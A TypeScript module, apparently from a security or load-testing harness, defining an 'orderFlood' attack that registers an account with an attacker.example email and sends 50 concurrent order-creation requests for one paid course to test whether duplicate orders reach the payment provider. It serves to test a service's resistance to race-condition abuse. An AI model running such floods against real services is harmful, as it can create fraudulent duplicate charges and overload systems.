import { type Attack, keepBusy } from '../lib/attack.ts'
import { call, json, signUp } from '../lib/call.ts'

export const orderFlood: Attack = {
  name: 'orders',
  what: '50 orders of one student for one course at a time; how many did the payment provider get?',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'orders@attacker.example')
    const answer = await call(target.origin, target.from, { path: '/api/course/getpublishedcoures' })
    const courses: { _id: string; price: number }[] = JSON.parse(answer.body.toString())
    const course = courses.find(({ price }) => price > 0)
    if (!course) throw new Error('there is no course for sale')
    const known = new Set<string>()
    return (signal) =>
      keepBusy(50, signal, async () => {
        const ordered = await target.send({
          ...json('/api/payment/create-order', { courseId: course._id }, cookie),
          signal,
        })
        if (ordered?.status !== 200) return
        const { id }: { id: string } = JSON.parse(ordered.body.toString())
        if (!known.has(id)) target.count('provider orders')
        known.add(id)
      })
  },
}
